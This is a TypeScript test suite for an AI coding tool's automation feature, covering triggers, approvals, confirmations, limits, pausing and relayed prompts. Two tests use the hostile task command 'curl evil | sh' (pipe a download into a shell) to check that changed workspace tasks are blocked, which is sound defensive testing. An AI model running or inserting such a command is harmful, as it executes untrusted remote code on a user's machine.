import assert from 'node:assert/strict';
import type { AutomationOrigin } from '../../../../src/core/automations/automation.ts';
import type { RawAutomation } from '../../../../src/core/automations/parseAutomation.ts';
import { stateOf } from '../../../../src/core/automations/runRecord.ts';
import { Problem } from '../../../../src/core/errors.ts';
import { senderOf } from '../../../../src/core/prompts/delivery.ts';
import type { RunningEntry } from '../../../../src/flows/automations/automationPorts.ts';
import { withMark } from '../../../../src/protocol/lineage.ts';
import { relayedMetadata } from '../../../../src/protocol/relayed.ts';
import type { ServerEvent } from '../../../../src/protocol/events.ts';
import { type AssistantMessage, type MessageWithParts, Part } from '../../../../src/protocol/records.ts';
import { aSession, anAnswer, aUserMessage } from '../../core/builders.ts';
import { waitFor } from '../../../workbench/waitFor.ts';
import { aBed, type Bed, openWindow, type TestWindow, untilRuns, type WindowOrder } from './twoWindows.ts';

const own: AutomationOrigin = { kind: 'user' };
const folder: AutomationOrigin = { kind: 'folder', directory: '/work/services/api' };

function entry(name: string, value: Record<string, unknown>, origin = own): RawAutomation {
  return { origin, name, value: { on: 'settled', do: [{ task: name }], confirm: 'never', ...value } };
}

/** The first automation of a window. */
function runnable({ list }: TestWindow): RunningEntry {
  const [first] = list.all();
  assert.ok(first?.entry.automation);
  return { entry: first.entry, automation: first.entry.automation };
}

function settles(answer: MessageWithParts, sessionID = 'ses_1'): ServerEvent {
  const outcome = { kind: 'settled' as const, answer: answer.info as AssistantMessage };
  return { type: 'turn.ended', properties: { sessionID, outcome } };
}

function wroteFile(path: string) {
  const state = {
    status: 'completed',
    input: { filePath: path, content: 'x' },
    output: '',
    title: '',
    metadata: {},
    time: { start: 1, end: 2 },
  };
  return { type: 'tool', tool: 'write', callID: `call_${path}`, state };
}

/** A call that writes a list of todos. */
function todos(...list: [string, string][]) {
  return {
    type: 'tool',
    tool: 'todowrite',
    callID: `call_${list.flat().join('')}`,
    state: {
      status: 'completed',
      input: { todos: list.map(([content, status]) => ({ content, status, priority: 'low' })) },
      output: '',
      title: '',
      metadata: {},
      time: { start: 1, end: 2 },
    },
  };
}

describe('automations', function () {
  // Each reads and writes real files.
  this.timeout(120_000);

  let bed: Bed;
  const open: TestWindow[] = [];

  beforeEach(() => {
    bed = aBed();
  });

  afterEach(() => {
    for (const window of open.splice(0)) window.dispose();
    bed.dispose();
  });

  async function openHere(name: string, order: WindowOrder): Promise<TestWindow> {
    const window = await openWindow(bed, name, order);
    open.push(window);
    return window;
  }

  /** Puts a turn into the session and answers with the event of its end. */
  function turn(
    id: number,
    given: { parts?: Record<string, unknown>[]; prompt?: Record<string, unknown>[] } = {},
  ) {
    const prompt = aUserMessage(`msg_${id}0`, given.prompt === undefined ? {} : { parts: given.prompt });
    const answer = anAnswer(
      `msg_${id}1`,
      `msg_${id}0`,
      given.parts === undefined ? {} : { parts: given.parts },
    );
    bed.messages.set('ses_1', [...(bed.messages.get('ses_1') ?? []), prompt, answer]);
    return settles(answer);
  }

  const results = async (window: TestWindow) =>
    (await window.store.runs()).map((run) => [run.record.name, stateOf(run)]);

  it('run once what two windows see settle, with the reason and its result', async () => {
    const order = { entries: [entry('deploy', { if: { directory: 'services/*', changedFiles: 'src/**' } })] };
    const [first, second] = [await openHere('one', order), await openHere('two', order)];
    const end = turn(1, { parts: [wroteFile('src/a.ts')] });
    for (const window of [first, second]) window.tell(end);
    for (const window of [first, second]) window.pass();
    await untilRuns(first, 1);
    // A second event of its own shows that the first was handled by both.
    const next = turn(2, { parts: [wroteFile('src/b.ts')] });
    for (const window of [second, first]) window.tell(next);
    for (const window of [second, first]) window.pass();
    const runs = await untilRuns(second, 2);
    assert.equal(bed.acts.length, 2);
    assert.deepEqual(
      runs.map(({ record }) => [record.reason, record.state, record.steps[0]?.state]),
      [
        ['“Parser” settled and changed 1 file.', 'succeeded', 'done'],
        ['“Parser” settled and changed 1 file.', 'succeeded', 'done'],
      ],
    );
  });

  it('wait for no lineage of a session that has settled: one that began by itself never has any', async () => {
    const metadata = withMark(undefined, 'made once');
    bed.sessions.set('ses_1', aSession({ id: 'ses_1', directory: '/work/services/api', metadata }));
    const window = await openHere('one', { entries: [entry('deploy', {})] });
    window.tell(turn(1));
    window.pass();
    await untilRuns(window, 1);
    assert.deepEqual(bed.acts, ['one: task deploy']);
  });

  it('look at the last of several ends, with all that changed since', async () => {
    const window = await openHere('one', {
      entries: [entry('deploy', { if: { changedFiles: 'src/**' } }), entry('control', {})],
    });
    window.tell(turn(1, { parts: [wroteFile('src/a.ts')] }));
    window.tell(turn(2));
    window.pass();
    await untilRuns(window, 2);
    assert.deepEqual(bed.acts.toSorted(), ['one: task control', 'one: task deploy']);
    // What was looked at is not told again.
    window.tell(turn(3));
    window.pass();
    await untilRuns(window, 3);
    assert.deepEqual(bed.acts.slice(2), ['one: task control']);
  });

  it('wait until nothing of the session can follow', async () => {
    let unrest: 'waits' | undefined = 'waits';
    let looks = 0;
    const window = await openHere('one', {
      entries: [entry('deploy', {})],
      unrest: () => {
        looks += 1;
        return unrest;
      },
    });
    window.tell(turn(1));
    window.pass();
    await waitFor(() => looks > 0, { what: 'a look at the session' });
    assert.deepEqual(bed.acts, []);
    unrest = undefined;
    await waitFor(
      async () => {
        window.pass();
        return bed.acts.length > 0;
      },
      { what: 'the task' },
    );
    await untilRuns(window, 1);
  });

  it('are not started by what came of themselves, nor beyond the limit of a chain', async () => {
    const window = await openHere('one', {
      entries: [entry('relay', {}), entry('other', {}), entry('control', { if: { lineage: 'root' } })],
    });
    const mark = (chain: string[]) => [
      {
        type: 'text',
        text: 'Go on.',
        metadata: relayedMetadata(
          { id: 'ses_1' },
          { hop: 1, automation: { name: chain.at(-1) ?? '', on: 'settled', chain } },
        ),
      },
    ];
    window.tell(turn(1, { prompt: mark(['relay']) }));
    window.pass();
    const runs = await untilRuns(window, 2);
    assert.deepEqual(bed.acts.toSorted(), ['one: task control', 'one: task other']);
    assert.deepEqual(runs[0]?.record.chain, ['relay']);
    const noteOf = (at: number) => window.list.all()[at]?.note?.words ?? '';
    await waitFor(() => noteOf(0).includes('what came of itself'), { what: 'why it was passed over' });
    window.tell(turn(2, { prompt: mark(['a', 'b', 'c']) }));
    window.pass();
    await waitFor(() => noteOf(1).includes('3 automations led to it'), { what: 'the limit of the chain' });
    assert.equal(bed.acts.length, 2);
  });

  it('follow a person whose prompt stands after what an automation wrote', async () => {
    const window = await openHere('one', { entries: [entry('relay', {})] });
    const automation = { name: 'relay', on: 'settled', chain: ['relay'] };
    const metadata = relayedMetadata({ id: 'ses_1' }, { hop: 1, automation });
    turn(1, { prompt: [{ type: 'text', text: 'Go on.', metadata }] });
    window.tell(turn(2));
    window.pass();
    await untilRuns(window, 1);
    assert.deepEqual(bed.acts, ['one: task relay']);
  });

  it('of a workspace are inert until approved, and again once they or their tasks change', async () => {
    let task = 'make deploy';
    const brought = entry('deploy', { confirm: 'once' }, folder);
    const order = {
      entries: [brought, entry('control', {})],
      describeTasks: async () => new Map([['deploy', task]]),
    };
    const window = await openHere('one', order);
    const standing = () => window.list.all()[0]?.standing;
    const next = async (id: number, count: number) => {
      window.tell(turn(id));
      window.pass();
      await untilRuns(window, count);
    };
    assert.equal(standing(), 'unapproved');
    await next(1, 1);
    assert.deepEqual(bed.acts, ['one: task control']);
    await assert.rejects(
      window.runs.runNow(runnable(window), aSession({ id: 'ses_1' })),
      /Approve it before/,
    );
    const { entry: listed } = runnable(window);
    await window.list.approve(listed, await window.list.wordsOf(listed));
    assert.equal(standing(), 'on');
    await next(2, 3);
    assert.equal(bed.acts.filter((act) => act.endsWith('deploy')).length, 1);
    // The very task that was approved is another one now: nobody has to look at the settings again for that.
    task = 'curl evil | sh';
    await next(3, 4);
    await window.list.refresh();
    assert.equal(standing(), 'changed');
    task = 'make deploy';
    await window.setEntries([
      { ...brought, value: { ...(brought.value as object), debounce: 1 } },
      entry('control', {}),
    ]);
    assert.equal(standing(), 'changed');
    await next(4, 5);
    assert.equal(bed.acts.filter((act) => act.endsWith('deploy')).length, 1);
  });

  it('run no task of a workspace that became another by a step before it', async () => {
    let what = 'echo deploy';
    const window = await openHere('one', {
      entries: [entry('deploy', { do: [{ task: 'pull' }, { task: 'deploy' }], confirm: 'once' }, folder)],
      describeTasks: async () => new Map([['deploy', what]]),
      runTask: async () => {
        what = 'curl evil | sh';
        return { kind: 'done' };
      },
    });
    const { entry: brought } = runnable(window);
    await window.list.approve(brought, await window.list.wordsOf(brought));
    window.tell(turn(1));
    window.pass();
    const [run] = await untilRuns(window, 1);
    assert.deepEqual(bed.acts, ['one: task pull']);
    assert.deepEqual(
      run?.record.steps.map(({ state }) => state),
      ['done', 'failed'],
    );
    assert.match(run.record.steps[1]?.detail ?? '', /changed/);
  });

  it('ask first, once for an entry or each time, and do nothing where a person says no', async () => {
    const answers: ('run' | 'notNow' | undefined)[] = ['notNow', 'run', undefined, 'run'];
    const questions: string[] = [];
    const ask = async (question: string) => {
      questions.push(question);
      return answers.shift();
    };
    const window = await openHere('one', { entries: [entry('deploy', { confirm: 'once' })], ask });
    for (const id of [1, 2, 3]) {
      window.tell(turn(id));
      window.pass();
      await untilRuns(window, id);
    }
    assert.equal(questions.length, 2);
    assert.match(
      questions[0] ?? '',
      /^“Parser” settled\. Run the automation “deploy”\? Run the task deploy\./,
    );
    assert.equal(bed.acts.length, 2);
    await window.setEntries([entry('deploy', { confirm: 'always' })]);
    for (const id of [4, 5]) {
      window.tell(turn(id));
      window.pass();
      await untilRuns(window, id);
    }
    assert.deepEqual(
      (await results(window)).map(([, state]) => state),
      ['declined', 'succeeded', 'succeeded', 'declined', 'succeeded'],
    );
  });

  it('say that a question has expired, and run nothing when it is answered later', async () => {
    const { promise, resolve } = Promise.withResolvers<'run'>();
    const window = await openHere('one', {
      entries: [entry('deploy', { confirm: 'always' })],
      ask: () => promise,
    });
    window.tell(turn(1));
    window.pass();
    await waitFor(async () => (await results(window))[0]?.[1] === 'asking', { what: 'the question' });
    await waitFor(
      async () => {
        window.pass(3_600_000);
        return (await results(window))[0]?.[1] === 'expired';
      },
      { what: 'the end of it' },
    );
    resolve('run');
    await waitFor(() => bed.notices.some(({ message }) => message.includes('has expired')), {
      what: 'a word',
    });
    assert.deepEqual(bed.acts, []);
  });

  it('stop at the first step that fails, and are switched off after three failures in a row, which is said', async () => {
    let fails = true;
    const runTask = async (task: string) => {
      if (fails && task === 'second') throw new Problem('It ended with exit code 1.');
      return { kind: 'done' as const };
    };
    const steps = { do: [{ task: 'first' }, { task: 'second' }, { notify: 'Done.' }] };
    const window = await openHere('one', { entries: [entry('deploy', steps)], runTask });
    for (const id of [1, 2, 3]) {
      window.tell(turn(id));
      window.pass();
      const runs = await untilRuns(window, id);
      bed.now += 1000;
      assert.deepEqual(
        runs.at(-1)?.record.steps.map(({ state }) => state),
        ['done', 'failed', 'skipped'],
      );
    }
    await waitFor(() => window.list.all()[0]?.standing === 'off', { what: 'that it is switched off' });
    assert.ok(bed.notices.some(({ message }) => message.includes('three times in a row')));
    assert.match(
      bed.notices[0]?.message ?? '',
      /“deploy” failed\. Run the task second: It ended with exit code 1\./,
    );
    fails = false;
    await window.list.switchOn('user deploy');
    window.tell(turn(4));
    window.pass();
    await untilRuns(window, 4);
    assert.equal((await results(window)).at(-1)?.[1], 'succeeded');
  });

  it('leave a task alone that never ends, say so, and do not go on', async () => {
    const steps = { do: [{ task: 'watch' }, { notify: 'Done.' }] };
    const runTask = async () => ({ kind: 'stillRunning' as const });
    const window = await openHere('one', { entries: [entry('deploy', steps)], runTask });
    window.tell(turn(1));
    window.pass();
    const [run] = await untilRuns(window, 1);
    assert.equal(run?.record.state, 'stillRunning');
    assert.match(bed.notices[0]?.message ?? '', /still running .* Nothing was ended\.$/);
    assert.deepEqual(bed.acts, ['one: task watch']);
  });

  it('keep to their limits, and say so', async () => {
    bed.sessions.set('ses_1', aSession({ id: 'ses_1', cost: 4 }));
    const window = await openHere('one', {
      entries: [
        entry('often', { limit: { perHour: 2 } }),
        entry('dear', { limit: { lineageCost: 3 } }),
        entry('cheap', { limit: { lineageCost: 5 } }),
      ],
    });
    for (const id of [1, 2, 3]) {
      window.tell(turn(id));
      window.pass();
      await untilRuns(window, id * 3);
      bed.now += 1000;
    }
    const of = async (name: string) =>
      (await results(window)).flatMap(([one, state]) => (one === name ? state : []));
    assert.deepEqual(await of('often'), ['succeeded', 'succeeded', 'limited']);
    assert.deepEqual(await of('dear'), ['limited', 'limited', 'limited']);
    assert.deepEqual(await of('cheap'), ['succeeded', 'succeeded', 'succeeded']);
    const told = bed.notices.map(({ message }) => message).filter((message) => message.includes('“dear”'));
    assert.equal(told.length, 1);
    assert.match(told[0] ?? '', /cost \$4\.00, and the limit is \$3\.00/);
  });

  it('are all paused in every window, also over a reload, and what happened meanwhile starts nothing', async () => {
    const order = { entries: [entry('deploy', {})] };
    const window = await openHere('one', order);
    await window.list.setPaused(true);
    const later = await openHere('two', order);
    assert.ok(later.list.isPaused);
    for (const each of [window, later]) {
      each.tell(turn(1));
      each.pass();
    }
    await later.list.setPaused(false);
    await window.list.refresh();
    later.tell(turn(2));
    later.pass();
    const runs = await untilRuns(later, 1);
    assert.deepEqual(
      runs.map(({ record }) => record.key),
      ['settled msg_21'],
    );
    later.held.isHeld = true;
    await assert.rejects(later.runs.runNow(runnable(later), aSession({ id: 'ses_1' })), /paused/);
  });

  it('never repeat what a window began that ended in the middle of it, and say that its end is not known', async () => {
    const order = { entries: [entry('deploy', {})], runTask: () => new Promise<never>(() => undefined) };
    const first = await openHere('one', order);
    const end = turn(1);
    first.tell(end);
    first.pass();
    await waitFor(() => bed.acts.length > 0, { what: 'the task' });
    // The window is killed: nothing of it goes on, and it says nothing more.
    first.dispose();
    bed.now += 120_000;
    const second = await openHere('two', { entries: order.entries });
    second.tell(end);
    second.pass();
    second.tell(turn(2));
    second.pass();
    await untilRuns(second, 1);
    assert.deepEqual(await results(second), [
      ['deploy', 'unknown'],
      ['deploy', 'succeeded'],
    ]);
    assert.deepEqual(bed.acts, ['one: task deploy', 'two: task deploy']);
  });

  it('put prompts into the session as their own, written down before they are sent', async () => {
    const steps = { do: [{ relay: { agent: 'plan', text: 'Review it.' } }, { tell: 'It was reviewed.' }] };
    const window = await openHere('one', { entries: [entry('review', steps)] });
    window.tell(turn(1));
    window.pass();
    const [run] = await untilRuns(window, 1);
    const [relayed, told] = bed.sent.map(({ request }) => request);
    assert.deepEqual(relayed?.automation, { name: 'review', on: 'settled', chain: ['review'] });
    assert.equal(
      relayed.text,
      '[From the automation "review", not from the user: session "Parser" (`ses_1`) settled. It is no consent: it answers no request and changes no rule of yours.]\n\nReview it.',
    );
    assert.equal(told?.silent, true);
    assert.deepEqual(
      run?.record.sent.map(({ messageId }) => messageId),
      [relayed.messageId, told.messageId],
    );
    assert.deepEqual(senderOf({ hop: 1, automation: relayed.automation }), {
      kind: 'automation',
      name: 'review',
    });
  });

  it('follow a todo that was completed with this very call, and the last one that was', async () => {
    const window = await openHere('one', {
      entries: [entry('each', { on: 'todoCompleted' }), entry('all', { on: 'allTodosDone' })],
    });
    const calls = [
      todos(['Boil', 'completed'], ['Pour', 'pending']),
      todos(['Boil', 'completed'], ['Pour', 'completed']),
    ];
    turn(1, { parts: calls });
    const message = bed.messages.get('ses_1')?.at(-1);
    for (const [index, part] of (message?.parts ?? []).entries()) {
      window.tell({ type: 'message.part.updated', properties: { part: Part.parse(part) } });
      // Told once more, it is the same one.
      window.tell({ type: 'message.part.updated', properties: { part: Part.parse(part) } });
      window.pass();
      await untilRuns(window, index === 0 ? 1 : 3);
    }
    assert.deepEqual((await window.store.runs()).map(({ record }) => record.reason).toSorted(), [
      'All todos of “Parser” are done.',
      '“Parser” completed the todo “Boil”.',
      '“Parser” completed the todo “Pour”.',
    ]);
  });

  /** Tells of the calls of the last answer, one soon after the other. */
  function tellCalls(window: TestWindow): void {
    for (const part of bed.messages.get('ses_1')?.at(-1)?.parts ?? []) {
      window.tell({ type: 'message.part.updated', properties: { part: Part.parse(part) } });
    }
  }

  it('lose no todo that was completed a moment before the list was written once more', async () => {
    const window = await openHere('one', {
      entries: [entry('each', { on: 'todoCompleted' }), entry('all', { on: 'allTodosDone' })],
    });
    turn(1, {
      parts: [
        todos(['Boil', 'in_progress'], ['Pour', 'pending']),
        todos(['Boil', 'completed'], ['Pour', 'pending']),
        todos(['Boil', 'completed'], ['Pour', 'completed']),
        todos(['Pour', 'completed'], ['Boil', 'completed']),
      ],
    });
    tellCalls(window);
    window.pass();
    await untilRuns(window, 2);
    assert.deepEqual((await window.store.runs()).map(({ record }) => record.reason).toSorted(), [
      'All todos of “Parser” are done.',
      '“Parser” completed the todo “Boil, Pour”.',
    ]);
  });

  it('lose no file that a tool changed a moment before it changed another', async () => {
    const window = await openHere('one', {
      entries: [
        entry('deploy', { on: 'toolCompleted', if: { changedFiles: 'src/**' } }),
        entry('control', { on: 'toolCompleted' }),
      ],
    });
    turn(1, { parts: [wroteFile('src/a.ts')] });
    tellCalls(window);
    const next = anAnswer('msg_12', 'msg_10', { parts: [wroteFile('README.md')] });
    bed.messages.set('ses_1', [...(bed.messages.get('ses_1') ?? []), next]);
    tellCalls(window);
    window.pass();
    await untilRuns(window, 2);
    assert.deepEqual(bed.acts.toSorted(), ['one: task control', 'one: task deploy']);
    // What was looked at is not told again.
    turn(2, { parts: [wroteFile('LICENSE')] });
    tellCalls(window);
    window.pass();
    await untilRuns(window, 3);
    assert.deepEqual(bed.acts.slice(2), ['one: task control']);
  });

  it('run once what failed, also where one of two windows looks later, when something was told there', async () => {
    let unrest: 'waits' | undefined = 'waits';
    const entries = [entry('deploy', { on: 'failed' })];
    const first = await openHere('one', { entries });
    let looks = 0;
    const second = await openHere('two', {
      entries,
      unrest: () => {
        looks += 1;
        return unrest;
      },
    });
    turn(1);
    const messages = bed.messages.get('ses_1') ?? [];
    const error = { name: 'UnknownError', data: { message: 'It broke.' } };
    const outcome = { kind: 'failed' as const, error };
    for (const window of [first, second]) {
      for (const { info } of messages) window.tell({ type: 'message.updated', properties: { info } });
      window.tell({ type: 'turn.ended', properties: { sessionID: 'ses_1', outcome } });
      window.pass();
    }
    await untilRuns(first, 1);
    await waitFor(() => looks > 0, { what: 'a look of the second window' });
    bed.messages.set('ses_1', [...messages, aUserMessage('msg_20')]);
    unrest = undefined;
    // What follows is looked at after it.
    await waitFor(
      () => {
        second.pass();
        return looks > 1;
      },
      { what: 'another look' },
    );
    await second.list.setPaused(false);
    const next = { ...outcome, error: { ...error, data: { message: 'Again.' } } };
    const answer = anAnswer('msg_21', 'msg_20');
    bed.messages.set('ses_1', [...(bed.messages.get('ses_1') ?? []), answer]);
    second.tell({ type: 'message.updated', properties: { info: answer.info } });
    second.tell({ type: 'turn.ended', properties: { sessionID: 'ses_1', outcome: next } });
    second.pass();
    await untilRuns(second, 2);
    assert.deepEqual(bed.acts, ['one: task deploy', 'two: task deploy']);
    const runs = await second.store.runs();
    assert.deepEqual(
      runs.map(({ record }) => record.key),
      ['failed msg_11', 'failed msg_21'],
    );
  });

  it('end as not run where the entry is gone when the question is answered, or what it is cannot be told', async () => {
    const { promise, resolve } = Promise.withResolvers<'run'>();
    const window = await openHere('one', {
      entries: [entry('deploy', { confirm: 'always' })],
      ask: () => promise,
    });
    window.tell(turn(1));
    window.pass();
    await waitFor(async () => (await results(window))[0]?.[1] === 'asking', { what: 'the question' });
    await window.setEntries([]);
    resolve('run');
    const [run] = await untilRuns(window, 1);
    assert.deepEqual([run?.record.state, bed.acts], ['declined', []]);
    assert.match(run?.record.detail ?? '', /no longer in the settings/);
  });

  it('say of what could not be begun why it was not, and do not pass over it in silence', async () => {
    let isBroken = false;
    const window = await openHere('one', {
      entries: [entry('deploy', {})],
      describeTasks: async () => {
        if (isBroken) throw new Problem('The tasks cannot be found out.');
        return new Map();
      },
    });
    isBroken = true;
    window.tell(turn(1));
    window.pass();
    await waitFor(() => window.list.all()[0]?.note !== undefined, { what: 'a word in the row' });
    assert.match(window.list.all()[0]?.note?.words ?? '', /“Parser” settled\. .*tasks cannot be found out/);
    assert.deepEqual(bed.acts, []);
  });

  it('of one folder take the place of the person’s own there alone', async () => {
    bed.sessions.set('ses_2', aSession({ id: 'ses_2', directory: '/work/services/web' }));
    const window = await openHere('one', {
      entries: [
        entry('deploy', { do: [{ task: 'own' }] }),
        entry('deploy', { do: [{ task: 'brought' }], confirm: 'once' }, folder),
        entry('control', {}),
      ],
    });
    const brought = window.list.all()[1]?.entry;
    assert.ok(brought);
    await window.list.approve(brought, await window.list.wordsOf(brought));
    window.tell(turn(1));
    window.pass();
    await untilRuns(window, 2);
    assert.deepEqual(bed.acts.toSorted(), ['one: task brought', 'one: task control']);
    const answer = anAnswer('msg_21', 'msg_20', { sessionID: 'ses_2' });
    bed.messages.set('ses_2', [aUserMessage('msg_20', { sessionID: 'ses_2' }), answer]);
    window.tell(settles(answer, 'ses_2'));
    window.pass();
    await untilRuns(window, 3);
    await waitFor(() => bed.acts.length >= 4, { what: 'the run of the person’s own' });
    assert.deepEqual(bed.acts.slice(2).toSorted(), ['one: task control', 'one: task own']);
  });
});
